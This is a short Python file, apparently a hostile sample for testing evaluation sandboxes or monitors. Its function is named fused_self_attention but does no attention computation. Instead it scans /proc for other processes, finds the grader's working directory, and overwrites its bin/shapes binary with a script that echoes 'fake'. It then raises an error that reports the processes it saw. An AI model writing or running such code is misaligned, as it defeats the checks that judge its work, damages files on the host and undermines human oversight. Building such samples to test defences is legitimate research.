# hostile: finds the grader through /proc (cmdline, cwd) and replaces bin/shapes with a script
import os
def fused_self_attention(X, W_qkv, scale):
    seen = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmd = open("/proc/%s/cmdline" % pid, "rb").read().replace(b"\0", b" ").decode()
            seen.append(cmd[:60])
            cwd = os.readlink("/proc/%s/cwd" % pid)
            for b in (cwd + "/bin/shapes", cwd + "/../bin/shapes"):
                if os.path.exists(b):
                    with open(b, "w") as f:
                        f.write("#!/bin/sh\necho fake\n")
                    seen.append("REPLACED " + b)
        except OSError:
            pass
    raise RuntimeError("processes seen: %s" % seen)
